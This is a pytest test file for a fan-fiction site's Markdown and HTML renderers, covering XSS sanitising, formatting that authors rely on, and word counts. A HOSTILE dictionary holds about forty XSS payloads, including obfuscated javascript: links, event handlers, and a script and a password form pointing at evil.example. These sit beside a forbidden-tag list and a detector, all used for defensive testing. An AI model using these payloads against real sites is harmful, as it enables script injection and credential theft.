"""Author text: the XSS corpus (tests/security), our own hostile cases, what authors rely on,
word counts."""

import json

import html5lib
import pytest

from tests.security import CORPUS_SIZE, check_xss
from works import rendering
from works.models import Chapter, Collection, Series, Work
from works.rendering import count_words, render_comment, render_markdown, render_summary

pytestmark = pytest.mark.django_db

# Every public render_* callable in works.rendering is a renderer of author text; new ones are
# picked up by the corpus test automatically.
RENDERERS = sorted(
    name
    for name in dir(rendering)
    if name.startswith("render_") and callable(getattr(rendering, name))
)


def passthrough(text):
    """A renderer that sanitises nothing, to prove the corpus check can fail."""
    return text


def _run_checker(renderer_spec, tmp_path, *extra):
    report = tmp_path / "xss.json"
    status = check_xss.main([renderer_spec, "--strict", "--json", str(report), *extra])
    return status, json.loads(report.read_text(encoding="utf-8"))


def test_every_known_renderer_is_covered_by_the_corpus_test():
    assert {"render_markdown", "render_summary", "render_comment"} <= set(RENDERERS)


@pytest.mark.parametrize("renderer", RENDERERS)
def test_renderer_passes_the_xss_corpus(renderer, tmp_path):
    status, report = _run_checker(f"works.rendering:{renderer}", tmp_path)
    failures = {
        r["id"]: (r["problems"] + r["warnings"], r["output"][:200])
        for r in report["results"]
        if not r["passed"]
    }
    assert status == 0 and not failures, failures
    assert report["passed"] == len(report["results"]) == CORPUS_SIZE


def test_corpus_check_fails_a_renderer_that_lets_script_through(tmp_path):
    status, report = _run_checker("tests.works.test_rendering:passthrough", tmp_path)
    assert status == 1
    assert report["failed"] > 500


# --- our own hostile cases -------------------------------------------------------------------

FORBIDDEN = {"script", "iframe", "frame", "object", "embed", "form", "input", "button", "style"}
FORBIDDEN |= {"link", "meta", "base", "svg", "math", "textarea", "select", "noscript"}


def _dangers(output):
    """What in `output`, parsed as a browser parses it, could run script or restyle the page."""
    tree = html5lib.parse(f"<div>{output}</div>", treebuilder="etree", namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in FORBIDDEN or element.tag.startswith("{"):
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.lower() if isinstance(name, str) else name[-1].lower()
            squeezed = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"}:
                found.append(f"{name} on <{tag}>")
            elif name in {"href", "src", "cite"} and ":" in squeezed.split("/", 1)[0]:
                if not squeezed.startswith(("http:", "https:", "mailto:")):
                    found.append(f"{name}={value!r} on <{tag}>")
    return found


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in paragraph": "Before <script src=https://evil.example/x.js></script> after",
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "upper-case scheme": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "entity-encoded scheme": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "hex entities without semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>'
    ),
    "tab entity in scheme": '<a href="java&#x09;script:alert(1)">x</a>',
    "newline entity in scheme": '<a href="java&#10;script:alert(1)">x</a>',
    "raw tab in scheme": '<a href="java\tscript:alert(1)">x</a>',
    "leading space and control": '<a href=" &#14; javascript:alert(1)">x</a>',
    "named colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "scheme bleach alone keeps": '<a href="javascript:123">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "onerror": "<img src=x onerror=alert(1)>",
    "onmouseover on allowed tag": '<p onmouseover="alert(1)">hover</p>',
    "data url link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data url image": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element": "<style>body{display:none}</style>text",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg/onload=alert(1)>",
    "math": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "markdown link": "[x](javascript:alert(1))",
    "markdown link with title": '[x](javascript:alert(1) "title")',
    "markdown link in angle brackets": "[x](<javascript:alert(1)>)",
    "markdown image": "![x](javascript:alert(1))",
    "markdown reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "unclosed tags": '<p><b>bold <i>italic <a href="javascript:alert(1)">x',
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)",
    "attribute breakout": '<a title="x" onclick="alert(1)" href="#">x</a>',
    "comment trick": "<!--<img src=x onerror=alert(1)>-->",
    "noscript trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "blockquote cite": '<blockquote cite="javascript:alert(1)">q</blockquote>',
}


@pytest.mark.parametrize("renderer", [render_markdown, render_summary, render_comment])
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_renderer_removes_hostile_markup(renderer, case):
    output = renderer(HOSTILE[case])
    assert _dangers(output) == [], output
    assert "javascript" not in output.lower(), output


def test_hostile_link_keeps_its_text_but_loses_its_target():
    assert render_markdown("[read me](javascript:alert(1))") == "<p><a>read me</a></p>"
    assert render_markdown('<a href="java&#x09;script:alert(1)">click</a>') == "<p><a>click</a></p>"


def test_style_attribute_is_dropped_but_the_text_kept():
    assert render_markdown('<p style="color: red">Red words</p>') == "<p>Red words</p>"


def test_check_for_dangers_catches_what_it_should():
    # The helper above must itself be able to fail.
    assert _dangers('<a href="javascript:x()">x</a>')
    assert _dangers("<img src=x onerror=alert(1)>")
    assert _dangers('<p style="color:red">x</p>')
    assert _dangers("<svg></svg>")
    assert not _dangers('<a href="https://example.org/a:b">x</a>')


def test_every_rendered_field_of_every_model_is_sanitised(author):
    hostile = "Hello <script>alert(1)</script><img src=x onerror=alert(1)>"
    work = Work.objects.create(title="W", summary=hostile, notes=hostile, endnotes=hostile)
    chapter = Chapter.objects.create(
        work=work, body=hostile, summary=hostile, notes=hostile, endnotes=hostile
    )
    series = Series.objects.create(title="S", description=hostile, notes=hostile)
    collection = Collection.objects.create(
        name="c", title="C", owner=author, description=hostile, rules=hostile
    )
    for row in (work, chapter, series, collection):
        assert row.rendered_fields
        for field in row.rendered_fields:
            html = getattr(row, f"{field}_html")
            assert "Hello" in html
            assert _dangers(html) == [] and "<script" not in html, (row, field, html)
        assert row.render_version == rendering.RENDER_VERSION


# --- what authors rely on --------------------------------------------------------------------


def test_blank_lines_make_paragraphs_and_single_newlines_line_breaks():
    html = render_markdown("First paragraph.\n\nSecond paragraph,\nsame paragraph.")
    assert html == "<p>First paragraph.</p>\n<p>Second paragraph,<br>\nsame paragraph.</p>"


def test_windows_line_endings_behave_like_unix_ones():
    assert render_markdown("One.\r\n\r\nTwo.") == render_markdown("One.\n\nTwo.")


def test_emphasis_in_markdown_and_html():
    html = render_markdown("*soft* **loud** <u>under</u> <s>struck</s> <sup>up</sup> <sub>dn</sub>")
    for fragment in ("<em>soft</em>", "<strong>loud</strong>", "<u>under</u>", "<s>struck</s>"):
        assert fragment in html
    assert "<sup>up</sup>" in html and "<sub>dn</sub>" in html


def test_lists_in_markdown_and_html():
    html = render_markdown("- milk\n- eggs\n\n1. first\n2. second")
    assert "<ul>\n<li>milk</li>\n<li>eggs</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>\n<li>second</li>\n</ol>" in html
    assert '<ol start="3">' in render_markdown('<ol start="3"><li>third</li></ol>')


def test_tables_in_chapters():
    html = render_markdown("| Name | Age |\n|------|-----|\n| Ann | 30 |")
    assert "<table>" in html and "<th>Name</th>" in html and "<td>Ann</td>" in html


def test_blockquotes():
    assert render_markdown("> She said so.") == "<blockquote>\n<p>She said so.</p>\n</blockquote>"
    quoted = render_markdown("<blockquote>Pasted quote</blockquote>")
    assert quoted == "<blockquote>Pasted quote</blockquote>"


def test_headings_in_chapters_but_not_in_summaries_or_comments():
    assert "<h2>Part Two</h2>" in render_markdown("## Part Two")
    assert "<h3>x</h3>" in render_markdown("<h3>x</h3>")
    for renderer in (render_summary, render_comment):
        html = renderer("## Part Two")
        assert "<h2" not in html and "Part Two" in html


def test_images_with_web_addresses_in_chapters_only():
    md = render_markdown("![A drawing](https://example.org/art.png)")
    assert md == '<p><img alt="A drawing" src="https://example.org/art.png"></p>'
    pasted = render_markdown('<img src="http://example.org/a.jpg" alt="Art" width="300">')
    assert '<img src="http://example.org/a.jpg" alt="Art" width="300">' in pasted
    assert "<img" not in render_summary("![A drawing](https://example.org/art.png)")
    assert "<img" not in render_comment('<img src="https://example.org/a.jpg">')


def test_pasted_html_keeps_alignment_and_emphasis():
    html = render_markdown('<p align="center"><em>The End</em></p>')
    assert html == '<p align="center"><em>The End</em></p>'
    assert render_summary('<p align="center"><em>x</em></p>') == '<p align="center"><em>x</em></p>'


def test_pasted_html_keeps_classes_language_and_direction():
    html = render_markdown('<p class="note" lang="ar" dir="rtl" title="t">مرحبا</p>')
    assert html == '<p class="note" lang="ar" dir="rtl" title="t">مرحبا</p>'


def test_links_to_web_mail_relative_and_fragments_are_kept():
    text = (
        '<a href="https://example.org/x">w</a> <a href="mailto:me@example.org">m</a> '
        '<a href="/works/1">r</a> <a href="#end">f</a>'
    )
    html = render_markdown(text)
    for href in ("https://example.org/x", "mailto:me@example.org", "/works/1", "#end"):
        assert f'href="{href}"' in html
    assert '<a href="https://example.org">https://example.org</a>' in render_markdown(
        "<https://example.org>"
    )


def test_indented_paragraphs_stay_prose_not_code():
    html = render_markdown("\tShe opened the door.\n\n    He waited.")
    assert "<pre>" not in html and "<code>" not in html
    assert "<p>She opened the door.</p>" in html and "<p>He waited.</p>" in html
    assert "<pre><code>x = 1\n</code></pre>" in render_markdown("```\nx = 1\n```")


def test_details_and_ruby_in_chapters():
    assert render_markdown("<details><summary>Spoiler</summary>It was him.</details>") == (
        "<details><summary>Spoiler</summary>It was him.</details>"
    )
    assert "<ruby>漢<rt>kan</rt></ruby>" in render_markdown("<ruby>漢<rt>kan</rt></ruby>")


def test_unclosed_and_misnested_tags_are_closed():
    assert render_markdown("<b>bold <i>both") == "<p><b>bold <i>both</i></b></p>"


def test_blank_text_renders_to_nothing():
    assert render_markdown("") == ""
    assert render_markdown("  \n\n ") == ""


# --- word counts as AO3 counts them ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("The quick brown fox jumps over the lazy dog.", 9),
        ("Hello, world! How are you?", 5),
        ("She said -- quietly -- no . . . ! — ?", 4),
        ("A well-known author's daughter didn’t go.", 6),
        ("one--two", 2),
        ("你好世界", 4),
        ("これはテストです", 8),
        ("สวัสดี", 6),
        ("Hello 世界, and Bonjour!", 5),
        ("नमस्ते दुनिया", 2),
        ("안녕하세요 세계", 2),
        ("", 0),
        ("*** --- ...", 0),
    ],
)
def test_word_count_matches_ao3(text, words):
    assert count_words(render_markdown(text)) == words


def test_markup_is_not_counted_and_separates_words():
    html = render_markdown(
        '<p align="center">One <em>two</em></p><p>three</p>four<br>five '
        '<a href="https://example.org/a-very-long-address">six</a>'
    )
    assert count_words(html) == 6


def test_entities_count_as_the_characters_they_stand_for():
    assert count_words("<p>Tom&nbsp;&amp;&nbsp;Jerry &lt;3</p>") == 3


def test_chapter_word_count_is_stored_at_save():
    work = Work.objects.create(title="Counting")
    chapter = Chapter.objects.create(work=work, body="Three little words.\n\n世界")
    assert chapter.word_count == 5
